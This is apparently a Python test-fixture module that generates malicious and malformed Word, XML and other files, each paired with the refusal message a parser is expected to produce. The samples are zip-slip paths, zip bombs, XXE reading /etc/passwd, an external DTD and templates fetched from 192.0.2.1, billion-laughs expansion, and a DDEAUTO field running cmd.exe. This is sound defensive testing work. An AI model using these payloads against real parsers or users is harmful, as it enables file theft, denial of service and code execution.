"""Files that are built to harm or are broken: each with the words that its refusal must say. Made anew for each run."""

from __future__ import annotations

import io
import struct
import zipfile
from collections.abc import Iterator

WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
PACKAGE = "http://schemas.openxmlformats.org/package/2006/relationships"
TYPES = "http://schemas.openxmlformats.org/package/2006/content-types"
AKN = "http://docs.oasis-open.org/legaldocml/ns/akn/3.0"
MAIN_TYPE = "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"

Case = tuple[str, bytes, str]  # what it is, the file, what the refusal says


def document(body: str = "<w:p><w:r><w:t>ЗАКОН</w:t></w:r></w:p>", head: str = "") -> str:
    return f'{head}<w:document xmlns:w="{WORD}" xmlns:r="{OFFICE}"><w:body>{body}</w:body></w:document>'


def types(said: str = MAIN_TYPE, more: str = "") -> str:
    return f'<Types xmlns="{TYPES}"><Override PartName="/word/document.xml" ContentType="{said}"/>{more}</Types>'


def rels(kind: str, target: str, *, outside: bool = True, id_: str = "rId9") -> str:
    mode = ' TargetMode="External"' if outside else ""
    row = f'<Relationship Id="{id_}" Type="{OFFICE}/{kind}" Target="{target}"{mode}/>'
    return f'<Relationships xmlns="{PACKAGE}">{row}</Relationships>'


def word(parts: dict[str, str | bytes] | None = None, *, body: str | None = None) -> bytes:
    """A small Word file with these parts besides its own, or instead of them."""
    given: dict[str, str | bytes] = {
        "[Content_Types].xml": types(),
        "_rels/.rels": rels("officeDocument", "word/document.xml", outside=False, id_="rId1"),
        "word/document.xml": document() if body is None else document(body),
        **(parts or {}),
    }
    return zipped(given)


def zipped(parts: dict[str, str | bytes], *, method: int = zipfile.ZIP_DEFLATED) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", method) as file:
        for name, data in parts.items():
            file.writestr(name, data)
    return out.getvalue()


def twice(first: str, second: str) -> bytes:
    """A zip that holds two parts of one name, which two programs read differently."""
    other = second.replace("document", "dokument")
    data = word({other: document("<w:p/>")})
    return data.replace(other.encode(), first.encode() if len(first) == len(other) else second.encode())


def field(*pieces: str) -> str:
    """A field of Word whose order is written in pieces."""
    said = "".join(f"<w:r><w:instrText>{piece}</w:instrText></w:r>" for piece in pieces)
    return f'<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>{said}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'


LAUGHS = '<!DOCTYPE a [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>'
OUTSIDE = '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
PARAMETER = '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://192.0.2.1/x.dtd"> %x;]>'


def _zips() -> Iterator[Case]:
    whole = word()
    yield "cut in the middle", whole[: len(whole) // 2], "not a whole"
    yield "cut at the end", whole[:-10], "not a whole"
    yield "a head of a zip and nothing else", b"PK\x03\x04", "not a whole"
    yield "bytes changed in a part", _changed(whole), "not a whole"
    yield "a name that leaves the file", word({"../../etc/cron.d/x": "x"}), "points outside"
    yield "an absolute name", word({"/etc/passwd": "x"}), "points outside"
    yield "a name with a drive", word({"C:/x.xml": "x"}), "points outside"
    yield "a name with a backslash", word({"word/aXb.xml": "x"}).replace(b"aXb.xml", b"a\\b.xml"), "points outside"
    yield "a link to another file", _link(), "points outside"
    yield "one name twice", twice("word/document.xml", "word/document.xml"), "twice"
    yield "one name in two spellings", word({"word/Document.XML": document()}), "twice"
    yield "ten thousand parts and one", word({f"word/media/{n}": "" for n in range(10_001)}), "entries"
    yield "a bomb in one part", word({"word/document.xml": "<a>" + " " * 130_000_000 + "</a>"}), "unpacks to"
    yield "a bomb in a picture", word({"word/media/a.png": b"\0" * 60_000_000}), "unpacks to"
    yield "protected by a password", _flagged(whole), "password"
    yield "an old Word file", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500, "old Word"
    yield "packed by another method", zipped({"word/document.xml": document()}, method=zipfile.ZIP_BZIP2), "packed in"
    yield "a zip of anything", zipped({"readme": "hello"}), "no Word document"
    yield "a spreadsheet", zipped({"xl/workbook.xml": "<a/>", "[Content_Types].xml": types()}), "no Word document"
    yield "parts that lie over each other", _overlapping(), "overlap"


def _parts() -> Iterator[Case]:
    yield "a main part cut off", word({"word/document.xml": document()[:-20]}), "not well-formed"
    yield "an empty main part", word({"word/document.xml": ""}), "not well-formed"
    yield "no body", word({"word/document.xml": f'<w:document xmlns:w="{WORD}"/>'}), "no document of Word"
    yield (
        "content type of a spreadsheet",
        word({"[Content_Types].xml": types("application/vnd.ms-excel")}),
        "calls itself",
    )
    yield "broken content types", word({"[Content_Types].xml": "<Types"}), "not well-formed"
    yield "broken relationships", word({"word/_rels/document.xml.rels": "<R"}), "not well-formed"
    yield "a thousand laughs", word({"word/document.xml": document(head=LAUGHS)}), "document type"
    yield "laughs in the styles", word({"word/styles.xml": LAUGHS + "<a/>"}), "document type"
    yield "an outside entity", word({"word/document.xml": document(head=OUTSIDE)}), "document type"
    yield "an outside parameter entity", word({"word/footnotes.xml": PARAMETER + "<a/>"}), "document type"
    sixteen = ('<?xml version="1.0" encoding="UTF-16"?>' + document(head=LAUGHS)).encode("utf-16")
    yield "laughs in another alphabet", word({"word/document.xml": sixteen}), "document type"
    yield (
        "a comment before the laughs",
        word({"word/document.xml": document(head="<!-- a -->\n" + LAUGHS)}),
        "document type",
    )
    deep = "<w:tbl><w:tr><w:tc>" * 120 + "<w:p/>" + "</w:tc></w:tr></w:tbl>" * 120
    yield "tables in tables in tables, 120 deep", word(body=deep), "not well-formed"
    yield "a note that holds itself", word({"word/footnotes.xml": _own_note()}, body=_own_reference()), "holds itself"
    yield "a number that is none", word({"word/numbering.xml": _numbering("x")}, body=_numbered()), "no program writes"


def _active() -> Iterator[Case]:
    macro = "application/vnd.ms-word.document.macroEnabled.main+xml"
    yield "macros", word({"word/vbaProject.bin": b"\xd0\xcf"}), "macros"
    yield "a type with macros", word({"[Content_Types].xml": types(macro)}), "macros"
    hidden = types(more='<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.vbaProject"/>')
    yield "macros under another name", word({"[Content_Types].xml": hidden}), "macros"
    yield "a control", word({"word/activeX/activeX1.xml": "<a/>"}), "controls"
    yield "DDE", word(body=field(' DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"')), "DDE"
    yield "DDE in pieces", word(body=field("DD", "EAU", "TO cmd")), "DDE"
    yield "DDE in a simple field", word(body='<w:p><w:fldSimple w:instr="dde cmd x"/></w:p>'), "DDE"
    yield "DDE in a note", word({"word/footnotes.xml": f'<w:footnotes xmlns:w="{WORD}"><w:footnote w:id="1">'
                                 f"{field('DDE cmd')}</w:footnote></w:footnotes>"}), "DDE"  # fmt: skip
    for target in ("https://192.0.2.1/x.dotm", "\\\\192.0.2.1\\x.dotm", "file://192.0.2.1/x.dotm"):
        linked = {"word/_rels/settings.xml.rels": rels("attachedTemplate", target), "word/settings.xml": "<a/>"}
        yield f"a template at {target}", word(linked), "a template that is fetched"
    for kind, what in (("oleObject", "a linked object"), ("frame", "a frame"), ("subDocument", "a part of the text")):
        yield f"{what} from elsewhere", word({"word/_rels/document.xml.rels": rels(kind, "http://192.0.2.1/a")}), what
    chunk = rels("aFChunk", "chunk.html", outside=False)
    yield "a part in another format", word({"word/_rels/document.xml.rels": chunk}), "another format"


def _others() -> Iterator[Case]:
    yield "nothing", b"", "no text"
    yield "white space", b" \n\t\r\n ", "no text"
    yield "a PDF", b"%PDF-1.7\n1 0 obj", "a PDF"
    yield "a picture", b"\x89PNG\r\n\x1a\n" + b"\0" * 99, "a picture"
    yield "RTF", b"{\\rtf1\\ansi hello}", "RTF"
    yield "a program", b"MZ\x90\0" + b"\0" * 99, "a program"
    yield "a packed file", b"\x1f\x8b\x08\0" + b"\0" * 99, "an archive"
    yield "random bytes", bytes(range(256)) * 4, "not text"
    yield "text with zeros", "ЗАКОН\0".encode() * 9, "binary data"
    yield "JSON of something else", b'{"a": [1, 2]}', "not of a format"
    yield "JSON nested ten thousand deep", b'{"content":' + b"[" * 10_000, "nested"
    act = f'<akomaNtoso xmlns="{AKN}"><act name="act"><body><p>x</p></body></act></akomaNtoso>'
    yield "Akoma Ntoso that laughs", (LAUGHS + act).encode(), "document type"
    yield "Akoma Ntoso that reads a file", ('<?xml version="1.0"?>' + OUTSIDE + act).encode(), "document type"
    yield "Akoma Ntoso cut off", act.encode()[:-30], "not well-formed"
    yield "XML of another kind", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"/>', "not Akoma Ntoso"
    yield (
        "Akoma Ntoso without a document",
        f'<akomaNtoso xmlns="{AKN}"><p>x</p></akomaNtoso>'.encode(),
        "not a document",
    )
    levels = "<point>" * 300 + "</point>" * 300
    yield "three hundred levels", act.replace("<p>x</p>", levels).encode(), "not well-formed"
    yield "a page without words", b"<!DOCTYPE html><html><body><script>x</script></body></html>", "no text"
    yield (
        "a page that calls itself ours",
        b'<html><head><meta name="generator" content="Travaux"></head><body><p>x',
        "ours",
    )


def cases() -> list[Case]:
    """All of them."""
    return [*_zips(), *_parts(), *_active(), *_others()]


# --- how some of them are built ------------------------------------------------------------------------------------


def _changed(whole: bytes) -> bytes:
    at = whole.index(b"word/document.xml") + 30
    return whole[:at] + bytes(255 - byte for byte in whole[at : at + 8]) + whole[at + 8 :]


def _link() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as file:
        file.writestr("word/document.xml", document())
        entry = zipfile.ZipInfo("word/link")
        entry.external_attr = 0o120777 << 16
        file.writestr(entry, "/etc/passwd")
    return out.getvalue()


def _flagged(whole: bytes) -> bytes:
    """Every entry of the directory says that it is encrypted."""
    data = bytearray(whole)
    at = data.find(b"PK\x01\x02")
    while at >= 0:
        data[at + 8] |= 1
        at = data.find(b"PK\x01\x02", at + 4)
    return bytes(data)


def _overlapping() -> bytes:
    """Two entries of the directory that claim more packed bytes than the file has."""
    text = document("<w:p><w:r><w:t>" + "".join(chr(0x430 + n * 7 % 32) for n in range(3000)) + "</w:t></w:r></w:p>")
    data = bytearray(zipped({"word/document.xml": text, "word/copy.xml": text}, method=zipfile.ZIP_STORED))
    end = data.find(b"PK\x05\x06")
    start = struct.unpack_from("<I", data, end + 16)[0]
    at, entries = start, []
    while data[at : at + 4] == b"PK\x01\x02":
        size = 46 + sum(struct.unpack_from("<HHH", data, at + 28))
        entries.append(bytes(data[at : at + size]))
        at += size
    directory = b"".join(entries) + b"".join(entries[1].replace(b"copy", b"cop" + bytes([97 + n])) for n in range(9))
    tail = bytearray(data[end:])
    struct.pack_into("<HHII", tail, 8, 11, 11, len(directory), start)
    return bytes(data[:start]) + directory + bytes(tail)


def _own_note() -> str:
    inner = '<w:p><w:r><w:footnoteReference w:id="1"/></w:r></w:p>'
    return f'<w:footnotes xmlns:w="{WORD}"><w:footnote w:id="1">{inner}</w:footnote></w:footnotes>'


def _own_reference() -> str:
    return '<w:p><w:r><w:t>ЗАКОН</w:t><w:footnoteReference w:id="1"/></w:r></w:p>'


def _numbering(start: str) -> str:
    level = f'<w:lvl w:ilvl="0"><w:start w:val="{start}"/><w:numFmt w:val="decimal"/><w:lvlText w:val="%1."/></w:lvl>'
    return (
        f'<w:numbering xmlns:w="{WORD}"><w:abstractNum w:abstractNumId="1">{level}</w:abstractNum>'
        '<w:num w:numId="1"><w:abstractNumId w:val="1"/></w:num></w:numbering>'
    )


def _numbered() -> str:
    number = '<w:pPr><w:numPr><w:ilvl w:val="0"/><w:numId w:val="1"/></w:numPr></w:pPr>'
    return f"<w:p>{number}<w:r><w:t>Срок</w:t></w:r></w:p>"
